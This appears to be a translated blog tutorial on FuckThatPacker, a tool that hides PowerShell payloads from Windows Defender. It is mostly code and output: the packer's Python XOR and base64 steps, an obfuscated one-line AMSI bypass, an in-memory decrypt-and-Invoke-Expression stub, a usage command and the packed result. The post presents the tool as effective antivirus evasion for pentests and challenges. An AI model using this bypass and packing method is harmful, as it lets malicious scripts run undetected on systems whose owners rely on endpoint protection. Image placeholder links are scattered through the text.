We already have discussed several times the notion of discretion or even anti-virus evasion. It is of course an essential component of the Ethical hacking area. Today, we will see how [FuckThatPacker](https://github.com/Unknow101/FuckThatPacker" works, a tool recently developed by @inf0sec to answer a simple problem which is "How to pass any PowerShell script through Windows Defender".


After several types ofresearch, it turns out that even by offending each of the lines of the Cobalt Strike base Resource Kit we are left with detected malware. The problem stems from the base64 shellcode which is analyzed by AMSI (Anti-Malware Scan Interface) which is mostly detected as a malicious script. FuckThatPacker therefore, assumes that if the malware is completely encrypted via an XOR and integrated into a "stub" allowing decryption in a memory coupled with a simple AMSI bypass then this will suffice to override antivirus.

Here is the detail of the code. The script will retrieve the contents of the load:

with open(args.payload) as f:
content = f.read()

The code will first be encoded using UTF16-LittleEndian since it is the encoding taken by Windows:

print "[+] Encode UTF16-LE"
content = content.encode("utf-16")

Then be encrypted via a simple XOR with the digital key chosen by the user:

print "[+] Cyphering Payload ..."
content = xor_payload(content,key)

Everything will finally be encoded in base64 to have only printable characters, before being integrated into the template supplied with the project:print "[+] Base64 Payload"
content = base64.b64encode(content)

print "[+] Writting into Template"
with open("template.txt") as f:
template = f.read()

template = template.replace("%%DATA%%",content)
template = template.replace("%%KEY%%",str(key))

The idea behind using a template is to make the project malleable by the community. In this way, anyone can modify their template to have an offended load of their own. Besides, this makes it possible to avoidpossible future signatures. Now let's take a quick look at the template:

[Runtime.InteropServices.Marshal]::WriteInt32([Ref].Assembly.GetType(("{5}{2}{0}{1}{3}{6}{4}" -f 'ut',('oma'+'t'+'ion.'),'.A',('Ams'+'iUt'),'ls',('S'+'ystem.'+'Manage'+'men'+'t'),'i')).GetField(("{1}{2}{0}" -f ('Co'+'n'+'text'),('am'+'s'),'i'),[Reflection.BindingFlags]("{4}{2}{3}{0}{1}" -f('b'+'lic,Sta'+'ti'),'c','P','u',('N'+'on'))).GetValue($null),0x41414141) $a = "%%DATA%%" $b = [System.Convert]::FromBase64String($a) for($x = 0; $x -lt$b.Count; $x++) { $b[$x] = $b[$x] -bxor %%KEY%% } IEX ([System.Text.Encoding]::Unicode.GetString($b))

The first line of code is for the AMSI bypass. This line eliminates this feature and prevents Defender fromdecoding the encoded parts to try to find signatures. The variable "$a" will be assigned the encrypted part of our load, it will then be decoded in the variable "$b" then passed in a loop allowing us to decrypt the bytes of the load one by one. The IEX command (for Invoke-Expression) will simply allow the load to be executed in memory.

The help menu is pretty self-explanatory but here is a demonstration of how to use the tool:

python FuckThatPacker.py -k 32 -p /root/payload.ps1 -o obfuscated.ps1

___ _ _____ _ _ ___ _
| __| _ __| |_|_ _| |_ __ _| |_| _ \__ _ __| |_____ _ _
| _| || / _| / / | | | ' \/ _` | _| _/ _` / _| / / -_) '_|
|_| \_,_\__|_\_\ |_| |_||_\__,_|\__|_| \__,_\__|_\_\___|_|

Written with <3 by Unknow101/inf0sec
v1.0[+] Encode UTF16-LE
[+] Cyphering Payload ...[+] Base64 Payload
[+] Writting into Template
[+] Writting into obfuscated.ps1

As indicated on the last line, the encrypted payload is found in the "obfuscated.ps1" file if no output file is provided, the script will display it in stdout.

cat obfuscated.ps1
[Runtime.InteropServices.Marshal]::WriteInt32([Ref].Assembly.GetType(("{5}{2}{0}{1}{3}{6}{4}" -f 'ut',('oma'+'t'+'ion.'),'.A',('Ams'+'iUt'),'ls',('S'+'ystem.'+'Manage'+'men'+'t'),'i')).GetField(("{1}{2}{0}" -f ('Co'+'n'+'text'),('am'+'s'),'i'),[Reflection.BindingFlags]("{4}{2}{3}{0}{1}" -f('b'+'lic,Sta'+'ti'),'c','P','u',('N'+'on'))).GetValue($null),0x41414141)
$a = "395zIE[...]ICog"
$b = [System.Convert]::FromBase64String($a)for($x = 0; $x -lt $b.Count; $x++)
$b[$x] = $b[$x] -bxor 32
IEX ([System.Text.Encoding]::Unicode.GetString($b))


Having no personal Virus Total on hand, we had to use the original which unfortunately shares the samples with the suppliers. Despite everything, this makes itpossible to put a numerical score and to judge the effectiveness of the tool since we obtain a perfect score:



This article was far from technicaland the tool rather simplistic. On the other hand, it responds in a very simple way to the problem posed. We hesitated to offer you this article because of its lack oftechnical level but we hope it can help some of you who have problems with antivirus evasion duringpentest, lab, challenges, etc ...